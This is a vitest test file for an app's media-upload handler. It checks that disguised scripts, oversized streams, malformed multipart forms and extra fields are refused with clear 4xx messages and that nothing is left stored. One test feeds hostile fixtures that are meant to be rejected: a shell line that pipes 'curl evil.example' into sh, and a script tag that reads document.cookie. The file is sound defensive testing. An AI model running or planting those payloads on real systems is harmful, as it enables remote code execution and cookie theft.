import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { eq } from 'drizzle-orm';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { mp4, png } from '../../x-sandbox/test-support';
import { closeDb, db } from '@/lib/db';
import { media } from '@/lib/db/schema';
import { saveUpload } from '@/lib/media/upload';
import { createUserWithAccount } from '../support/fixtures';
import { refusal } from '../support/refusal';

/**
 * Hostile uploads, through the function the route calls, into real storage and Postgres:
 * every one is refused with a 4xx a person can act on, and leaves no row and no file behind.
 */

let mediaDir: string;

beforeAll(async () => {
  // Before anything reads the configuration: this file's own media storage.
  mediaDir = await mkdtemp(path.join(tmpdir(), 'herald-media-upload-'));
  process.env.MEDIA_DIR = mediaDir;
});

afterAll(async () => {
  await closeDb();
  await rm(mediaDir, { recursive: true, force: true });
});

// Whatever happened, no upload is left half-written.
afterEach(async () => {
  expect(await readdir(path.join(mediaDir, 'tmp')).catch(() => [])).toEqual([]);
});

const BOUNDARY = 'herald-test-boundary';
const MIB = 1024 * 1024;

function request(body: BodyInit, contentType = `multipart/form-data; boundary=${BOUNDARY}`): Request {
  return new Request('http://localhost/api/v1/media', { method: 'POST', headers: { 'content-type': contentType }, body, duplex: 'half' } as RequestInit);
}

/** What a browser sends: the file under the name and type the client claims. */
function browserUpload(bytes: Buffer, name: string, type: string, extra?: (form: FormData) => void): Request {
  const form = new FormData();
  extra?.(form);
  form.append('file', new Blob([new Uint8Array(bytes)], { type }), name);
  return new Request('http://localhost/api/v1/media', { method: 'POST', body: form });
}

const partHead = (name: string, filename?: string) =>
  Buffer.from(`--${BOUNDARY}\r\ncontent-disposition: form-data; name="${name}"${filename ? `; filename="${filename}"` : ''}\r\n\r\n`);
const formEnd = Buffer.from(`\r\n--${BOUNDARY}--\r\n`);

/**
 * A form generated as it is read: `head`, then `megabytes` fresh 1 MB pieces, then `tail`.
 * `sent()` says how many pieces were taken; `peakRss()` how far the process's memory rose.
 */
function generated(head: Buffer, megabytes: number, tail: Buffer) {
  let sent = 0;
  const baseline = process.memoryUsage.rss();
  let peak = baseline;
  const stream = new ReadableStream<Uint8Array>({
    start(controller) {
      controller.enqueue(head);
    },
    pull(controller) {
      if (sent === megabytes) {
        controller.enqueue(tail);
        controller.close();
        return;
      }
      sent++;
      // A new buffer each time: a reader that kept them would show in the process's memory.
      controller.enqueue(Buffer.alloc(MIB, sent % 251));
      if (sent % 16 === 0) peak = Math.max(peak, process.memoryUsage.rss());
    },
  });
  return { stream, sent: () => sent, rise: () => peak - baseline };
}

const rowsOf = (userId: string) => db().select().from(media).where(eq(media.userId, userId));

describe('the real type comes from the bytes', () => {
  it('takes a PNG named .mp4 as the PNG it is', async () => {
    const { user } = await createUserWithAccount();
    const saved = await saveUpload(user.id, browserUpload(png(40, 30, 5000), 'clip.mp4', 'video/mp4'));
    expect(saved).toMatchObject({ kind: 'image', mimeType: 'image/png', size: 5000 });
    expect(await rowsOf(user.id)).toMatchObject([{ mimeType: 'image/png', kind: 'image', width: 40, height: 30 }]);
  });

  it('refuses a script named .jpg, however it is sent', async () => {
    const { user } = await createUserWithAccount();
    for (const script of ['#!/bin/sh\ncurl evil.example | sh\n', '<script>alert(document.cookie)</script>', `<html><script>${'x'.repeat(10_000)}</script>`]) {
      const error = await refusal(saveUpload(user.id, browserUpload(Buffer.from(script), 'photo.jpg', 'image/jpeg')));
      expect([error.status, error.message]).toEqual([400, 'Unsupported file type: Herald takes JPEG, PNG or WebP images, GIFs, and MP4 or MOV videos.']);
    }
    expect(await rowsOf(user.id)).toEqual([]);
  });
});

describe('sizes', () => {
  it('refuses a 513 MB video as it streams, without holding it in memory', async () => {
    const { user } = await createUserWithAccount();
    const start = mp4(64 * 1024);
    const body = generated(Buffer.concat([partHead('file', 'big.mp4'), start]), 513, formEnd);
    const error = await refusal(saveUpload(user.id, request(body.stream)));
    expect([error.status, error.message]).toEqual([400, "This file is over 512 MB, X's limit for videos."]);
    // It stopped right at the limit, and the pieces went to disk, not into memory.
    expect(body.sent()).toBeLessThanOrEqual(513);
    expect(body.sent()).toBeGreaterThanOrEqual(511);
    expect(body.rise()).toBeLessThan(256 * MIB);
    expect(await rowsOf(user.id)).toEqual([]);
  });

  it('refuses an image over 5 MB as soon as it passes, reading no further', async () => {
    const { user } = await createUserWithAccount();
    const body = generated(Buffer.concat([partHead('file', 'big.png'), png(10, 10, 64 * 1024)]), 100, formEnd);
    const error = await refusal(saveUpload(user.id, request(body.stream)));
    expect(error.message).toBe("This file is over 5 MB, X's limit for images.");
    expect(body.sent()).toBeLessThan(10);
  });

  it('refuses a form whose other fields are huge, though the file itself is small', async () => {
    const { user } = await createUserWithAccount();
    // A 520 MB field before a small image: over the upload limit in all.
    const body = generated(partHead('note'), 520, Buffer.concat([Buffer.from('\r\n'), partHead('file', 'a.png'), png(32, 32, 1024), formEnd]));
    const error = await refusal(saveUpload(user.id, request(body.stream)));
    expect([error.status, error.message]).toEqual([413, "This upload is over 512 MB, the most Herald takes at once (X's limit for videos)."]);
    expect(body.sent()).toBeLessThan(520);
    expect(body.rise()).toBeLessThan(256 * MIB);
    expect(await rowsOf(user.id)).toEqual([]);
  });

  it('refuses a huge field value under that limit, before reading the file', async () => {
    const { user } = await createUserWithAccount();
    const body = generated(partHead('caption'), 20, Buffer.concat([Buffer.from('\r\n'), partHead('file', 'a.png'), png(32, 32, 1024), formEnd]));
    const error = await refusal(saveUpload(user.id, request(body.stream)));
    expect([error.status, error.message]).toEqual([400, 'Unknown form field "caption": send only the file, in a field named "file".']);
    expect(await rowsOf(user.id)).toEqual([]);
  });
});

describe('the form itself', () => {
  it('refuses multipart without a boundary', async () => {
    const { user } = await createUserWithAccount();
    const error = await refusal(saveUpload(user.id, request(new Uint8Array(Buffer.concat([partHead('file', 'a.png'), png(1, 1), formEnd])), 'multipart/form-data')));
    expect([error.status, error.message]).toEqual([400, 'Send the file as multipart/form-data, in a field named "file".']);
  });

  it('refuses a body that ends in the middle of the file, and keeps nothing of it', async () => {
    const { user } = await createUserWithAccount();
    const body = generated(Buffer.concat([partHead('file', 'clip.mp4'), mp4(64 * 1024)]), 8, Buffer.alloc(0));
    const error = await refusal(saveUpload(user.id, request(body.stream)));
    expect([error.status, error.message]).toEqual([400, 'The upload was cut off before the end of the form; send the file again.']);
    expect(await rowsOf(user.id)).toEqual([]);
  });

  it('refuses an upload whose sender goes away half way, and keeps nothing of it', async () => {
    const { user } = await createUserWithAccount();
    let sent = 0;
    const stream = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(Buffer.concat([partHead('file', 'clip.mp4'), mp4(64 * 1024)]));
      },
      pull(controller) {
        if (++sent > 8) controller.error(new Error('aborted'));
        else controller.enqueue(Buffer.alloc(MIB));
      },
    });
    const error = await refusal(saveUpload(user.id, request(stream)));
    expect([error.status, error.message]).toEqual([400, 'The upload was cut off before the end of the form; send the file again.']);
    expect(await rowsOf(user.id)).toEqual([]);
  });

  it('refuses two files in one form', async () => {
    const { user } = await createUserWithAccount();
    const twice = browserUpload(png(8, 8), 'a.png', 'image/png', (form) => form.append('file', new Blob([new Uint8Array(png(9, 9))]), 'b.png'));
    expect((await refusal(saveUpload(user.id, twice))).message).toBe('Send one file per upload.');
    expect(await rowsOf(user.id)).toEqual([]);
  });

  it('refuses an unknown extra field, even one that claims a type', async () => {
    const { user } = await createUserWithAccount();
    const claimed = browserUpload(Buffer.from('#!/bin/sh\n'), 'a.png', 'image/png', (form) => form.append('mimeType', 'image/png'));
    const error = await refusal(saveUpload(user.id, claimed));
    expect([error.status, error.message]).toEqual([400, 'Unknown form field "mimeType": send only the file, in a field named "file".']);
    expect(await rowsOf(user.id)).toEqual([]);
  });

  it('refuses a form of many parts', async () => {
    const { user } = await createUserWithAccount();
    const many = browserUpload(png(32, 32, 1024), 'a.png', 'image/png', (form) => {
      for (let i = 0; i < 20; i++) form.append(`f${i}`, 'v');
    });
    const error = await refusal(saveUpload(user.id, many));
    expect([error.status, error.message]).toEqual([400, 'Send the file alone: a form with more than 8 parts is refused.']);
  });
});
